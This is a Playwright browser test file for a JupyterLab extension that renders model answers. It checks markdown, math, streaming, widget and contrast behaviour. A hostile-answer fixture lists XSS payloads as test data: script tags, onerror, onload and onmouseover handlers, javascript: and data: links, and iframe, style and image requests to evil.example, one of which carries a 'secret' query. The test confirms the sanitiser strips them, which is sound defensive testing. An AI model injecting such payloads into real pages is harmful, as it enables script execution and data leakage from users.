"""The magics in a real JupyterLab page."""

import os
import re

import pytest
from playwright.sync_api import expect

from tests.browser.lab import WAIT, Lab, Page, chromium, executable
from tests.conftest import Project

pytestmark = pytest.mark.browser

MARKDOWN_CELL = """\
%%gatewayx mock
Some **bold** text, `code` and a [link](https://example.org/page).

* one
* two

It costs $5 to $10, or \\(x\\), or $$y$$; `\\(z\\)`,
\\(\\href{javascript:window.harmed=1}{w}\\)."""

SLOW_CELL = "%%gatewayx mock -p rate=20\n**bold** " + "word " * 2000

WIDGET_CELL = """\
import ipywidgets
button, label = ipywidgets.Button(description="press"), ipywidgets.Label()
button.on_click(lambda _: setattr(label, "value", "clicked"))
ipywidgets.VBox([button, label])"""

HOSTILE_CELL = """\
%%gatewayx mock
<script>window.harmed = 1; alert(1)</script>
<img src=x onerror="window.harmed = 1">
<iframe src="https://evil.example/frame"></iframe>
<style>@import url(https://evil.example/style);</style>
<svg onload="window.harmed = 1"></svg>
![picture](https://evil.example/picture.png?q=secret)
[run](javascript:window.harmed=1)
[data](data:text/html,<script>window.harmed=1</script>)
<a href="https://evil.example" onclick="window.harmed = 1">press</a>

| a |
|---|
| <b onmouseover="window.harmed = 1">b</b> |

[fine](https://example.org/fine)"""

COLUMNS_CELL = (
    """\
%%gatewayx mock mock:other cohere -p rate=100 -o comparison
Some **bold** text and a_word_that_is_wider_than_any_column_"""
    + "of_three_" * 40
)

LOAD_CELL = "%load_ext gatewayx_nb\nprice = 1"
CELLS = [
    LOAD_CELL,
    MARKDOWN_CELL,
    SLOW_CELL,
    WIDGET_CELL,
    SLOW_CELL,
    HOSTILE_CELL,
    "%gatewayx",
    COLUMNS_CELL,
    "",
]
(
    LOAD_INDEX,
    MARKDOWN_INDEX,
    STOPPED_INDEX,
    WIDGET_INDEX,
    STREAM_INDEX,
    HOSTILE_INDEX,
    STATUS_INDEX,
    COLUMNS_INDEX,
    COMPLETION_INDEX,
) = range(len(CELLS))

_CELL_SOURCE = "window.jupyterapp.shell.currentWidget.content.widgets[index].model.sharedModel"
_CLEAR_SCRIPT = f"index => {{ {_CELL_SOURCE}.setSource(''); }}"
_SOURCE_SCRIPT = f"index => {_CELL_SOURCE}.getSource()"

# Contrast of an element's text, with its opacity applied:
# https://www.w3.org/TR/WCAG22/#dfn-contrast-ratio.
_CONTRAST_SCRIPT = """element => {
    const rgb = text => text.match(/[\\d.]+/g).map(Number);
    const layers = [];
    let alpha = 1;
    for (let at = element; at; at = at.parentElement) {
        alpha *= getComputedStyle(at).opacity;
        if ((layers.at(-1)?.[3] ?? 0) < 1)
            layers.push([...rgb(getComputedStyle(at).backgroundColor), 1].slice(0, 4));
    }
    const back = layers.reverse().reduce(
        (under, [r, g, b, a]) => [r, g, b].map((part, i) => a * part + (1 - a) * under[i]),
        [255, 255, 255]);
    const text = rgb(getComputedStyle(element).color)
        .slice(0, 3).map((part, i) => alpha * part + (1 - alpha) * back[i]);
    const light = color => {
        const [r, g, b] = color.slice(0, 3).map(part => part / 255)
            .map(part => part <= .03928 ? part / 12.92 : ((part + .055) / 1.055) ** 2.4);
        return .2126 * r + .7152 * g + .0722 * b;
    };
    const [low, high] = [light(text), light(back)].sort((a, b) => a - b);
    return (high + .05) / (low + .05);
}"""


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    """Yield a JupyterLab in a project."""
    if executable() is None:
        message = "Chromium is not installed; run `apt-get install chromium`"
        if os.environ.get("CI") == "true":
            pytest.fail(message)
        pytest.skip(message)
    folder = tmp_path_factory.mktemp("lab")
    (folder / "home").mkdir()
    project = Project(folder / "project")
    project.set_keys("GATEWAYX_GROK_API_KEY=xai-0123456789abcdef\n")
    with Lab(project.root, folder / "home") as lab:
        yield lab


@pytest.fixture(scope="module")
def page(lab):
    """Yield the page of a notebook with the cells `CELLS`, of which two have been run."""
    with chromium() as browser:
        page = Page(browser, lab, CELLS)
        page.run(LOAD_INDEX)
        page.run(STATUS_INDEX)
        page.output(
            STATUS_INDEX
        ).wait_for()  # the first output appears once the renderers have loaded
        yield page


def test_markdown_is_shown_with_its_summary(page):
    """Markdown is rendered, and the line below it has the model, the latency and the tokens."""
    page.run(MARKDOWN_INDEX)

    output = page.output(MARKDOWN_INDEX)
    expect(output.locator("strong")).to_have_text("bold")
    assert output.count() == 1
    assert output.locator("li").all_inner_texts() == ["one", "two"]
    assert output.locator("code").first.inner_text() == "code"
    link = output.locator("a")
    assert link.get_attribute("href") == "https://example.org/page"
    assert "noopener" in link.get_attribute("rel")
    expect(output).to_contain_text(re.compile(r"mock:mock · \d\.\d s.* 22 in, 23 out · \$0"))


def test_mathematics_is_typeset_and_dollar_amounts_are_not(page):
    """JupyterLab typesets mathematics, but not dollar amounts, code or TeX with links."""
    output = page.output(MARKDOWN_INDEX)

    expect(output.locator("mjx-container")).to_have_count(2)
    assert output.locator("mjx-container[display=true]").count() == 1
    assert [code.inner_text() for code in output.locator("code").all()][1:] == ["\\(z\\)"]
    expect(output).to_contain_text("It costs $5 to $10, or ")
    expect(output).to_contain_text("\\(\\href{javascript:window.harmed=1}{w}\\)")
    assert output.locator("a").count() == 1


def test_the_stop_button_stops_a_streaming_answer(page):
    """A streaming answer is rendered until the Stop button stops it, with a one-line error.

    The partial answer is kept and labelled as interrupted.
    """
    page.start(STOPPED_INDEX)
    expect(page.output(STOPPED_INDEX)).to_contain_text("word word", timeout=WAIT)
    expect(page.output(STOPPED_INDEX).locator("strong")).to_have_text("bold")
    expect(page.cell(STOPPED_INDEX).locator(".jp-InputPrompt")).to_have_text("[*]:")
    page.stop()
    page.wait_for_end(STOPPED_INDEX)

    output = page.output(STOPPED_INDEX)
    expect(output.first).to_contain_text("[mock] bold word word")
    expect(output.first).to_contain_text("· interrupted")
    expect(output.last).to_have_text("KeyboardInterrupt: stopped")
    assert output.count() == 2


def test_a_click_is_handled_while_a_cell_streams(page):
    """A widget handles a click while a cell streams, not only after the cell has ended."""
    page.run(WIDGET_INDEX)
    page.start(STREAM_INDEX)
    expect(page.output(STREAM_INDEX)).to_contain_text("word word", timeout=WAIT)

    try:
        page.tab.get_by_role("button", name="press").click()
        expect(page.output(WIDGET_INDEX)).to_contain_text("clicked")
        expect(page.cell(STREAM_INDEX).locator(".jp-InputPrompt")).to_have_text("[*]:")
    finally:
        page.stop()
        page.wait_for_end(STREAM_INDEX)


def test_a_hostile_answer_is_inert(page):
    """Scripts, handlers, frames, styles and images in an answer are removed; links are kept."""
    page.run(HOSTILE_INDEX)
    output = page.output(HOSTILE_INDEX)
    output.hover()
    page.tab.wait_for_timeout(500)  # enough time for automatic requests

    hrefs = [link.get_attribute("href") for link in output.locator("a").all()]
    assert hrefs == ["https://example.org/fine"]
    active_elements = (
        "script, img, iframe, style, svg, object, embed, form, input, video, audio, link"
    )
    assert output.locator(active_elements).count() == 0
    assert "onmouseover" in output.inner_text()
    attributes = "output => [...output.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
    names = set(output.first.evaluate(attributes))
    assert not [name for name in names if name.startswith("on")]
    assert page.tab.evaluate("window.harmed") is None
    assert page.foreign_urls == []
    assert page.dialogs == []


def test_several_answers_are_side_by_side(page):
    """Several answers are in equal columns on a wide page, and stacked on a narrow one."""
    page.run(COLUMNS_INDEX)
    output = page.output(COLUMNS_INDEX)
    columns = output.locator(".gatewayx-column")
    assert output.count() == 1
    labels = [output.get_by_role("group", name=name, exact=True) for name in ("mock", "cohere")]
    assert [label.count() for label in labels] == [1, 1]
    assert columns.locator("em, strong").all_inner_texts() == [
        *("mock", "bold", "mock:other", "bold", "cohere"),
    ]
    expect(columns.nth(1)).to_contain_text(re.compile(r"mock:other · \d\.\d s.* in, .* out · \$0"))
    expect(columns.nth(2)).to_contain_text("MissingKeyError: engine 'cohere' needs a key")

    left_box, middle_box, right_box = (columns.nth(index).bounding_box() for index in range(3))
    assert left_box["y"] == middle_box["y"] == right_box["y"]
    assert (
        left_box["x"] + left_box["width"]
        < middle_box["x"]
        < middle_box["x"] + middle_box["width"]
        < right_box["x"]
    )
    assert abs(left_box["width"] - right_box["width"]) < 1

    page.tab.set_viewport_size({"width": 700, "height": 1400})
    try:
        expect(columns.nth(1)).not_to_have_js_property("offsetTop", first_column_top(columns))
        stacked = [columns.nth(index).bounding_box() for index in range(3)]
        assert stacked[0]["x"] == stacked[1]["x"] == stacked[2]["x"]
        assert stacked[0]["y"] < stacked[1]["y"] < stacked[2]["y"]
    finally:
        page.tab.set_viewport_size({"width": 1200, "height": 1400})


def test_columns_of_the_last_row_do_not_stretch(page):
    """A single column in the last row is as wide as the columns above it."""
    page.run(COLUMNS_INDEX)
    page.tab.set_viewport_size({"width": 900, "height": 1400})
    try:
        columns = page.output(COLUMNS_INDEX).locator(".gatewayx-column")
        expect(columns.nth(2)).not_to_have_js_property("offsetTop", first_column_top(columns))
        first, second, third = (columns.nth(index).bounding_box() for index in range(3))
        assert first["y"] == second["y"] < third["y"]
        assert abs(first["width"] - third["width"]) < 1
    finally:
        page.tab.set_viewport_size({"width": 1200, "height": 1400})


@pytest.mark.parametrize(
    ("text", "fragment", "name"),
    [
        ("%%gatewayx ", "gr", "grok"),
        ("%%gatewayx mock --as ", "j", "json"),
        ("%%gatewayx mock\nOf {{", "pr", "price"),
    ],
)
def test_tab_shows_completions_and_a_click_accepts_one(page, text, fragment, name):
    """Tab offers matching names of this package, both on the line and in the cell's prompt.

    A click on a name completes it and keeps the rest of the text.
    """
    page.tab.evaluate(_CLEAR_SCRIPT, COMPLETION_INDEX)
    page.cell(COMPLETION_INDEX).locator(".cm-content").click()
    page.tab.keyboard.insert_text(text + fragment)
    page.tab.keyboard.press("Tab")
    matches = page.tab.locator(".jp-Completer-item .jp-Completer-match")
    expect(matches.first).to_have_text(name)
    assert all(match.startswith(fragment) for match in matches.all_inner_texts())
    matches.first.click()

    expect(page.tab.locator(".jp-Completer-item:visible")).to_have_count(0)
    assert page.tab.evaluate(_SOURCE_SCRIPT, COMPLETION_INDEX) == text + name


def first_column_top(columns):
    """Return the top offset of the first column."""
    return columns.nth(0).evaluate("column => column.offsetTop")


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_text_has_enough_contrast_in_every_theme(page, theme):
    """In every theme, text has the contrast that WCAG requires, and the summary line at least 3."""
    page.run(MARKDOWN_INDEX)
    page.run(COLUMNS_INDEX)
    page.command("apputils:change-theme", theme=theme)
    page.tab.locator(f"body[data-jp-theme-name='{theme}']").wait_for(state="attached")

    answer, status = page.output(MARKDOWN_INDEX), page.output(STATUS_INDEX)
    for text in (answer.locator("p").first, answer.locator("code").first, answer.locator("a")):
        assert text.evaluate(_CONTRAST_SCRIPT) >= 4.5
    columns = page.output(COLUMNS_INDEX).locator(".gatewayx-column")
    for text in (status.locator("td").first, status.locator("code").first):
        assert text.evaluate(_CONTRAST_SCRIPT) >= 4.5
    for text in (columns.locator("strong").first, columns.locator(".gatewayx-error")):
        assert text.evaluate(_CONTRAST_SCRIPT) >= 4.5
    assert answer.locator(".gatewayx-line").evaluate(_CONTRAST_SCRIPT) >= 3


def test_a_kernel_restart_keeps_the_partial_answer(page):
    """A kernel restart during a stream keeps the partial answer, and the next cell works."""
    page.start(STREAM_INDEX)
    expect(page.output(STREAM_INDEX)).to_contain_text("word word")
    page.restart()
    expect(page.output(STREAM_INDEX)).to_contain_text("word word")
    page.run(LOAD_INDEX)
    page.run(MARKDOWN_INDEX)
    expect(page.output(MARKDOWN_INDEX)).to_contain_text("$0")
